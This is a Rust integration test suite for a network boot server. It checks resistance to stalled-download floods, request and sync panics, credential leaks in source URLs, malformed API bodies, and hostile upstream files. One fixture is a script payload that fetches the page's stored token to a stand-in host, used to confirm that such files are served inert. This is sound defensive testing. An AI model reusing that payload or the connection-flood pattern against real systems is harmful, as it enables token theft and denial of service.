//! Hostile HTTP clients and hostile upstream content against the real binary: one
//! address holding many stalled downloads, a body nobody reads, an upstream file
//! named `….html`, credentials in source URLs, and API bodies of the wrong shape.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::harness::*;
use crate::upstream::*;

/// A TCP connection to `to` from the loopback address `from`.
fn connect_from(from: &str, to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
    let local: SocketAddr = format!("{from}:0").parse().unwrap();
    s.bind(&local.into())?;
    s.connect_timeout(&to.into(), Duration::from_secs(5))?;
    let c = TcpStream::from(s);
    c.set_read_timeout(Some(Duration::from_secs(20)))?;
    Ok(c)
}

/// One request on a fresh connection from `from`; the whole answer ("" when the
/// server closed the connection without one).
fn request_from(from: &str, to: SocketAddr, path: &str) -> Vec<u8> {
    let Ok(mut c) = connect_from(from, to) else {
        return vec![];
    };
    let req = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    let _ = c.write_all(req.as_bytes());
    let mut out = Vec::new();
    let _ = c.read_to_end(&mut out);
    out
}

/// A response's status line and headers (lowercase names), from curl.
fn headers(url: &str, extra: &[&str]) -> (u16, Vec<(String, String)>) {
    let out = std::process::Command::new("curl")
        .args(["-s", "--max-time", "30", "-o", "/dev/null", "-D", "-"])
        .args(extra)
        .arg(url)
        .output()
        .expect("curl is installed");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut lines = text.lines();
    let code = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let h = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    (code, h)
}

fn header<'a>(h: &'a [(String, String)], name: &str) -> Option<&'a str> {
    h.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
}

#[test]
fn stalled_downloads_from_one_address_do_not_lock_out_another() {
    let size = 8 << 20;
    let r = rack(
        size,
        "auto = false",
        "max_connections = 64\nmax_connections_per_client = 8\nsend_timeout = \"3s\"\n",
    );
    let s = r.env.serve_synced();
    // 250 downloads from 127.0.0.2 that never read a byte.
    let mut stalled = Vec::new();
    for _ in 0..250 {
        if let Ok(mut c) = connect_from("127.0.0.2", s.http) {
            let req = format!("GET {KERNEL} HTTP/1.1\r\nHost: x\r\n\r\n");
            let _ = c.write_all(req.as_bytes());
            stalled.push(c);
        }
    }
    wait_until(Duration::from_secs(20), "the cap's transfers", || {
        s.metric("rackboot_http_transfers_in_flight") == 8.0
    });
    // Another machine is served, whole.
    let start = Instant::now();
    let answer = request_from("127.0.0.3", s.http, KERNEL);
    assert!(
        answer.starts_with(b"HTTP/1.1 200"),
        "no answer for 127.0.0.3"
    );
    let body = &answer[answer.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4..];
    assert_eq!(sha256_hex(body), sha256_hex(&kernel_of("20261101", size)));
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "{:?}",
        start.elapsed()
    );
    assert!(s.metric("rackboot_http_connections_rejected_total") >= 242.0);
    // The refusals are logged, but not once per connection.
    let log = s.log_text();
    let warned = log.matches("max_connections_per_client").count();
    assert!((1..=3).contains(&warned), "{warned} warnings:\n{log}");
    assert!(log.contains("127.0.0.2 has 8 connections open"), "{log}");
    // The stalled bodies are closed after send_timeout; 127.0.0.2 may connect again.
    wait_until(
        Duration::from_secs(15),
        "the stalled bodies to close",
        || s.metric("rackboot_http_transfers_in_flight") == 0.0,
    );
    assert!(s.metric("rackboot_http_errors_total{kind=\"send_timeout\"}") >= 8.0);
    let again = request_from("127.0.0.2", s.http, "/api/v1/status");
    assert!(again.starts_with(b"HTTP/1.1 200"));
    drop(stalled);
}

#[test]
fn a_body_nobody_reads_is_closed_after_send_timeout_and_its_generation_collected() {
    let size = 8 << 20;
    let r = rack_with_token(size, "auto = false", "send_timeout = \"2s\"\n");
    let s = r.env.serve_synced();
    let mut stalled = s.stalled_get(KERNEL);
    let started = Instant::now();
    wait_until(
        Duration::from_secs(20),
        "the stalled transfer to end",
        || s.metric("rackboot_http_transfers_in_flight") == 0.0,
    );
    let took = started.elapsed();
    assert!(took >= Duration::from_millis(1500), "{took:?}");
    // The client gets less than the file, then the end of the connection.
    stalled
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut got = Vec::new();
    let _ = stalled.read_to_end(&mut got);
    assert!(got.len() < size, "{} bytes", got.len());
    // Nothing holds generation 1 any more: the next publication collects it.
    for (generation, version) in [(2, "20261120"), (3, "20261201")] {
        r.publish(version, size);
        assert_eq!(post_sync(&s).0, 202);
        s.wait_generation(generation, Duration::from_secs(60));
    }
    assert!(!r.env.state.join("snapshots/1").exists());
}

#[test]
fn upstream_files_are_never_active_content_and_every_answer_says_nosniff() {
    let env = Env::new();
    // An item whose upstream name ends in .html and whose bytes are a page with a
    // script that would read the page's token.
    let mut p = products("20261101", 4096);
    let evil = b"<html><script>fetch('//x/'+sessionStorage.getItem('rackboot-token'))</script>";
    let squash = &mut p[0].versions.values_mut().next().unwrap()[2];
    squash.path = format!("{}.html", squash.path);
    squash.data = evil.to_vec();
    let path = format!("/{}", squash.path);
    let (_key, mirror) = env.signed_upstream(&p);
    env.write_config(
        &mirror.url(),
        &["amd64"],
        &format!("auto = false\n{}", LISTEN),
    );
    let s = env.serve_synced();
    let (code, body) = s.get(&path);
    assert_eq!((code, body.as_slice()), (200, &evil[..]));
    let (code, h) = headers(&s.url(&path), &[]);
    assert_eq!(code, 200);
    assert_eq!(
        header(&h, "content-type"),
        Some("application/octet-stream"),
        "{h:?}"
    );
    assert_eq!(header(&h, "x-content-type-options"), Some("nosniff"));
    assert_eq!(
        header(&h, "content-security-policy"),
        Some("default-src 'none'; sandbox")
    );
    // Every other answer too: snapshot files, the stream's metadata, the API,
    // errors, boot configs.
    for p in [
        KERNEL,
        "/streams/v1/index.json",
        "/api/v1/status",
        "/no/such/file",
        "/ipxe.cfg",
    ] {
        let (_, h) = headers(&s.url(p), &[]);
        assert_eq!(header(&h, "x-content-type-options"), Some("nosniff"), "{p}");
        let csp = header(&h, "content-security-policy").unwrap_or_default();
        assert!(csp.contains("default-src 'none'"), "{p}: {csp}");
    }
    // The page: its own script (by hash) and nothing inline besides.
    let (code, h) = headers(&s.url("/"), &[]);
    assert_eq!(code, 200);
    let csp = header(&h, "content-security-policy").unwrap();
    assert!(csp.contains("script-src 'sha256-"), "{csp}");
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert!(csp.contains("connect-src 'self'"), "{csp}");
}

#[test]
fn credentials_in_a_source_url_are_shown_nowhere() {
    let r = rack_with_token(4096, "auto = false", "");
    let secret = "hunter2-pw";
    let plain = r.mirror.url();
    let with_creds = plain.replacen("http://", &format!("http://admin:{secret}@"), 1);
    edit_config(&r.env, &plain, &with_creds);
    let s = r.env.serve_synced();
    // The upstream fails: the sync's error names the index URL.
    r.mirror.fault("streams/v1/index.sjson", Fault::Status(503));
    assert_eq!(post_sync(&s).0, 202);
    wait_until(Duration::from_secs(30), "the sync to fail", || {
        s.status()["sync"]["last_result"] == "failed"
    });
    let mut shown = Vec::new();
    for p in [
        "/api/v1/sources",
        "/api/v1/status",
        "/api/v1/catalog",
        "/",
        "/api/v1/sources/1/selections",
    ] {
        let (code, body) = s.get(p);
        assert_eq!(code, 200, "{p}");
        shown.push((p.to_string(), String::from_utf8_lossy(&body).into_owned()));
    }
    let status = &shown[1].1;
    assert!(status.contains("http://***@127.0.0.1"), "{status}");
    assert!(status.contains("503"), "{status}");
    let out = r.env.ok(&["status"]);
    shown.push(("rackboot status".into(), out));
    let out = r.env.ok(&["boot-sources", "read"]);
    assert!(out.contains("***@"), "{out}");
    shown.push(("boot-sources read".into(), out));
    shown.push((
        "boot-sources read --json".into(),
        r.env.ok(&["boot-sources", "read", "--json"]),
    ));
    shown.push(("the log".into(), s.log_text()));
    for (what, text) in &shown {
        assert!(!text.contains(secret), "{what} shows the password:\n{text}");
    }
}

/// A write to the API with the token; (status, body as JSON).
fn write(s: &Served, method: &str, path: &str, body: &str) -> (u16, serde_json::Value) {
    let auth = format!("Authorization: Bearer {}", TOKEN);
    let (code, out) = curl(&["-X", method, "-H", &auth, "-d", body, &s.url(path)]);
    let v = serde_json::from_slice(&out)
        .unwrap_or_else(|e| panic!("{method} {path}: not JSON ({e}): {out:?}"));
    (code, v)
}

#[test]
fn api_bodies_are_typed_null_clears_and_a_bad_keyring_is_refused() {
    let r = rack_with_token(4096, "auto = false", "");
    let s = r.env.serve_synced();
    let mac = "/api/v1/machines/52:54:00:00:00:07";
    let (code, v) = write(
        &s,
        "PUT",
        mac,
        r#"{"kernel_params": "console=ttyS0", "local_boot": false}"#,
    );
    assert_eq!(code, 200, "{v}");
    // null clears the setting: nothing (least of all "null") reaches the command line.
    let (code, v) = write(&s, "PUT", mac, r#"{"kernel_params": null}"#);
    assert_eq!(code, 200, "{v}");
    assert!(v.get("kernel_params").is_none_or(|k| k.is_null()), "{v}");
    assert_eq!(v["local_boot"], false, "{v}");
    let machines = std::fs::read_to_string(r.env.state.join("machines.json")).unwrap();
    assert!(!machines.contains("null"), "{machines}");
    let (_, cfg) = s.get("/pxelinux.cfg/01-52-54-00-00-00-07");
    let cfg = String::from_utf8(cfg).unwrap();
    assert!(!cfg.contains("null"), "{cfg}");
    // Wrong types are a 400 naming the field; nothing is stored.
    let sources_before = std::fs::read(r.env.state.join("sources.json")).ok();
    let machines_before = std::fs::read(r.env.state.join("machines.json")).unwrap();
    for (method, path, body, field) in [
        (
            "PUT",
            mac,
            r#"{"kernel_params": {"a": 1}}"#,
            "kernel_params",
        ),
        ("PUT", mac, r#"{"kernel_params": 42}"#, "kernel_params"),
        ("PUT", mac, r#"{"local_boot": "yes"}"#, "local_boot"),
        ("PUT", mac, r#"{"image": ["ubuntu/noble"]}"#, "image"),
        ("PUT", mac, r#"{"bogus": 1}"#, "bogus"),
        (
            "PUT",
            mac,
            r#"{"kernel_params": "a", "kernel_params": "b"}"#,
            "duplicate key \"kernel_params\"",
        ),
        ("PUT", "/api/v1/sources/1", r#"{"url": {"x": 1}}"#, "url"),
        (
            "PUT",
            "/api/v1/sources/1",
            r#"{"unsigned": "true"}"#,
            "unsigned",
        ),
        ("PUT", "/api/v1/sources/1", r#"{"url": null}"#, "url"),
        (
            "PUT",
            "/api/v1/sources/1/selections/1",
            r#"{"arches": [1, 2]}"#,
            "arches",
        ),
        (
            "PUT",
            "/api/v1/sources/1/selections",
            r#"[{"release": "noble", "release": "jammy"}]"#,
            "duplicate key \"release\"",
        ),
        (
            "POST",
            "/api/v1/sources/1/selections",
            r#"{"release": "noble", "labels": {"x": "y"}}"#,
            "labels",
        ),
    ] {
        let (code, v) = write(&s, method, path, body);
        assert_eq!(code, 400, "{method} {path} {body}: {v}");
        let msg = v["error"].as_str().unwrap();
        assert!(
            msg.contains(field),
            "{body}: {msg:?} does not name {field:?}"
        );
    }
    assert_eq!(
        std::fs::read(r.env.state.join("sources.json")).ok(),
        sources_before
    );
    assert_eq!(
        std::fs::read(r.env.state.join("machines.json")).unwrap(),
        machines_before
    );
    // A keyring that is not one is refused with 400 and not saved: the next sync of
    // the healthy source still works.
    let url = r.mirror.url();
    for body in [
        format!(r#"{{"url": "{url}", "keyring_data": "!!!"}}"#),
        format!(r#"{{"url": "{url}", "keyring_data": "bm90IGEga2V5cmluZw=="}}"#),
        format!(r#"{{"url": "{url}", "keyring_filename": "/etc/hostname"}}"#),
    ] {
        let (code, v) = write(&s, "POST", "/api/v1/sources", &body);
        assert_eq!(code, 400, "{body}: {v}");
        assert!(v["error"].as_str().unwrap().contains("keyring"), "{v}");
    }
    let (_, v) = write(&s, "PUT", "/api/v1/sources/1", r#"{"keyring_data": "!!!"}"#);
    assert!(v["error"].as_str().unwrap().contains("base64"), "{v}");
    let (code, body) = s.get("/api/v1/sources");
    assert_eq!(code, 200);
    let list: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 1, "{list}");
    // A good inline keyring is taken.
    use base64::Engine as _;
    let data =
        base64::engine::general_purpose::STANDARD.encode(std::fs::read(&r.env.keyring).unwrap());
    let (code, v) = write(
        &s,
        "PUT",
        "/api/v1/sources/1",
        &format!(r#"{{"keyring_data": "{data}", "keyring_filename": null}}"#),
    );
    assert_eq!(code, 200, "{v}");
    wait_until(Duration::from_secs(30), "a good sync", || {
        let st = s.status();
        st["sync"]["last_result"] != "failed" && st["sync_running"] == false
    });
    assert_eq!(s.get(KERNEL).0, 200);
}

/// The `data-source data-os data-release data-arch` of the page's checkboxes, with
/// whether each is checked.
fn checkboxes(html: &str) -> Vec<(String, bool)> {
    html.split("<input type=\"checkbox\" class=\"arch\" ")
        .skip(1)
        .map(|rest| {
            let tag = &rest[..rest.find('>').unwrap()];
            let attr = |name: &str| {
                let at = tag.find(&format!("{name}=\"")).unwrap() + name.len() + 2;
                tag[at..at + tag[at..].find('"').unwrap()].to_string()
            };
            (
                format!(
                    "{} {} {} {}",
                    attr("data-source"),
                    attr("data-os"),
                    attr("data-release"),
                    attr("data-arch")
                ),
                tag.ends_with(" checked"),
            )
        })
        .collect()
}

#[test]
fn the_page_keys_rows_by_source_and_shows_the_current_selection() {
    let env = Env::new();
    let (key, one) = env.signed_upstream(&products("20261101", 4096));
    let root_two = env.dir.path().join("mirror-two");
    let two_products = vec![
        image("jammy", "amd64", "20261101", 4096),
        image("jammy", "arm64", "20261101", 4096),
    ];
    write_stream(&root_two, &two_products, &key, SHA512);
    let two = MirrorServer::start(&root_two);
    let token = env.dir.path().join("token");
    env.write_config(
        &one.url(),
        &["amd64"],
        &format!("auto = false\n{LISTEN}token_file = \"{}\"", token.display()),
    );
    env.add_source(&two.url(), "jammy", &["amd64"]);
    std::fs::write(&token, TOKEN).unwrap();
    let s = env.serve_synced();
    let (_, page) = s.get("/");
    let boxes = checkboxes(&String::from_utf8(page).unwrap());
    assert_eq!(
        boxes,
        vec![
            ("1 ubuntu noble amd64".to_string(), true),
            ("2 ubuntu jammy amd64".to_string(), true),
            ("2 ubuntu jammy arm64".to_string(), false),
        ]
    );
    // Source 2's upstream goes down; source 1 is deleted and source 2's selection
    // changed. The syncs fail, so the catalog on disk is the old one.
    two.fault("streams/v1/index.sjson", Fault::Status(503));
    let (code, v) = write(&s, "DELETE", "/api/v1/sources/1", "");
    assert_eq!(code, 200, "{v}");
    let (code, v) = write(
        &s,
        "PUT",
        "/api/v1/sources/2/selections",
        r#"[{"os": "ubuntu", "release": "jammy", "arches": ["arm64"]}]"#,
    );
    assert_eq!(code, 200, "{v}");
    wait_until(Duration::from_secs(30), "the sync to fail", || {
        s.status()["sync"]["last_result"] == "failed"
    });
    let (_, page) = s.get("/");
    let page = String::from_utf8(page).unwrap();
    assert!(!page.contains("Boot source 1"), "{page}");
    // Source 2 shows its own rows, boxed as it is selected now.
    assert_eq!(
        checkboxes(&page),
        vec![
            ("2 ubuntu jammy amd64".to_string(), false),
            ("2 ubuntu jammy arm64".to_string(), true),
        ]
    );
}

#[test]
fn a_tls_body_nobody_reads_is_closed_after_send_timeout() {
    let size = 8 << 20;
    let (r, cert) = rack_with_tls(size);
    edit_config(&r.env, "tls_listen", "send_timeout = \"2s\"\ntls_listen");
    let (s, addrs) = r.env.serve_with(&["TFTP", "HTTP", "HTTPS"], |_| {});
    s.wait_generation(1, Duration::from_secs(60));
    // A TLS client that stops reading: openssl's output goes to a pipe nobody reads,
    // so once the pipe is full it reads no more from the socket.
    let mut stalled = std::process::Command::new("openssl")
        .args(["s_client", "-quiet", "-connect", &addrs[2].to_string()])
        .args(["-CAfile", cert.to_str().unwrap()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("openssl is installed");
    let mut stdin = stalled.stdin.take().unwrap();
    stdin
        .write_all(format!("GET {KERNEL} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes())
        .unwrap();
    wait_until(Duration::from_secs(20), "the transfer to start", || {
        s.metric("rackboot_http_transfers_in_flight") == 1.0
    });
    let started = Instant::now();
    wait_until(Duration::from_secs(10), "the transfer to end", || {
        s.metric("rackboot_http_transfers_in_flight") == 0.0
    });
    assert!(started.elapsed() >= Duration::from_millis(1500));
    assert!(s.metric("rackboot_http_errors_total{kind=\"send_timeout\"}") >= 1.0);
    // What openssl got is less than the file.
    drop(stdin);
    let mut got = Vec::new();
    stalled
        .stdout
        .take()
        .unwrap()
        .read_to_end(&mut got)
        .unwrap();
    assert!(got.len() < size, "{} bytes", got.len());
    let _ = stalled.wait();
}

/// Issue 10 (panics): a panic while handling one request ends that connection only.
/// The rack keeps serving, and each panicking connection gives back its per-client
/// slot (4 here, 20 panics from one address). Debug builds arm the panic with
/// `RACKBOOT_TEST_PANIC_PATH`; release builds unwind the same way (Cargo.toml).
#[test]
fn a_panic_in_a_request_ends_that_connection_only() {
    let r = rack(1 << 16, "auto = false", "max_connections_per_client = 4\n");
    let (mut s, _) = r.env.serve_with(&["HTTP"], |c| {
        c.env("RACKBOOT_TEST_PANIC_PATH", "/boom");
    });
    s.wait_generation(1, Duration::from_secs(60));
    for i in 0..20 {
        let answer = request_from("127.0.0.9", s.http, "/boom");
        assert!(
            !answer.starts_with(b"HTTP/1.1 2"),
            "panic {i} was answered: {}",
            String::from_utf8_lossy(&answer)
        );
    }
    let answer = request_from("127.0.0.9", s.http, KERNEL);
    assert!(
        answer.starts_with(b"HTTP/1.1 200"),
        "after 20 panics from one address: {}",
        String::from_utf8_lossy(&answer[..answer.len().min(300)])
    );
    assert!(
        s.child.as_mut().unwrap().try_wait().unwrap().is_none(),
        "rackboot serve exited"
    );
    let log = s.log_text();
    assert_eq!(
        log.matches("test panic while handling /boom").count(),
        20,
        "{log}"
    );
    // The scrape's own connection is the one open.
    wait_until(
        Duration::from_secs(5),
        "the open-connections gauge to drop",
        || s.metric("rackboot_http_connections_open") == 1.0,
    );
}

/// Issue 10 (panics): a panic inside a sync fails that sync (named in the status) and
/// the daemon goes on serving the generation it had. Debug builds arm it with
/// `RACKBOOT_TEST_PANIC_SYNC`.
#[test]
fn a_panic_in_a_sync_fails_that_sync_only() {
    let r = rack_with_token(1 << 16, "auto = false", "");
    r.env.ok(&["sync"]);
    let (mut s, _) = r.env.serve_with(&["HTTP"], |c| {
        c.env("RACKBOOT_TEST_PANIC_SYNC", "1");
    });
    s.wait_generation(1, Duration::from_secs(60));
    assert_eq!(post_sync(&s).0, 202);
    let mut st = serde_json::Value::Null;
    // The result is recorded just before the running flag drops: wait for both
    // (a sync stuck "running" after its panic fails here).
    wait_until(Duration::from_secs(30), "the sync to fail and stop", || {
        st = s.status();
        st["sync"]["last_result"] == "failed" && st["sync_running"] == false
    });
    let e = st["sync"]["last_error"].as_str().unwrap_or_default();
    assert!(e.contains("the sync panicked"), "{st}");
    assert!(
        s.child.as_mut().unwrap().try_wait().unwrap().is_none(),
        "rackboot serve exited"
    );
    assert_eq!(st["sync_running"], false, "{st}");
    assert_eq!(s.get(KERNEL).0, 200);
    // The next sync runs (and fails the same way): the loop is alive.
    assert_eq!(post_sync(&s).0, 202);
    wait_until(Duration::from_secs(30), "a second sync", || {
        s.status()["sync"]["runs"].as_u64() >= Some(2)
    });
}
